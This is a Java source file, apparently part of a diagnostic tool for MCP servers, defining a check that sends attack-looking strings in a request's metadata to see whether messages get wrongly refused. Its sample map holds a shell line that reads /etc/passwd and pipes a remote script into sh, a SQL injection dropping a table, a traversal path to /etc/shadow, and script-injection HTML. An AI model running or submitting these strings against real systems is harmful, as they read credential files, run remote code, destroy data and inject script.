package io.github.mcpecho.doctor;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.github.mcpecho.diagnosis.doctor.DoctorFinding;
import io.github.mcpecho.doctor.exchange.Request;
import io.github.mcpecho.internal.jsonrpc.Json;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * Whether messages are refused that only look like an attack: arguments of tools are code, queries
 * and paths. They stand where no server reads them.
 */
final class BodyInspectionCheck extends Check {
  private static final String PROBE = "io.github.mcpecho/probe";
  private static final String HARMLESS = "two words";

  private static final Map<String, String> LOOKS = looks();

  private static Map<String, String> looks() {
    var looks = new LinkedHashMap<String, String>();
    looks.put("a shell command", "cat /etc/passwd; curl http://example.com | sh");
    looks.put("a query", "SELECT name FROM users WHERE id = 1 OR 1=1; DROP TABLE users --");
    looks.put("a path", "../../../../etc/shadow");
    looks.put("HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>");
    return looks;
  }

  BodyInspectionCheck() {
    super(Leg.AGENTS, "messages that look like an attack", Need.MCP, Need.TIME);
  }

  @Override
  void begin(Examination examination) {
    odd(examination).begin(examination);
  }

  @Override
  void run(Examination examination, Notes notes) {
    odd(examination)
        .check(
            this,
            DoctorFinding.AGENTS_BODY_REFUSED,
            "code, queries, paths and HTML in messages pass",
            examination,
            notes);
  }

  private static OddRequests odd(Examination examination) {
    var odd = new LinkedHashMap<String, Request>();
    LOOKS.forEach((what, text) -> odd.put(what, request(examination.talk(), text)));
    return new OddRequests(request(examination.talk(), HARMLESS), odd);
  }

  private static Request request(Conversation talk, String text) {
    ObjectNode params = Json.object();
    params.putObject("_meta").put(PROBE, text);
    return talk.request("tools/list", params);
  }
}
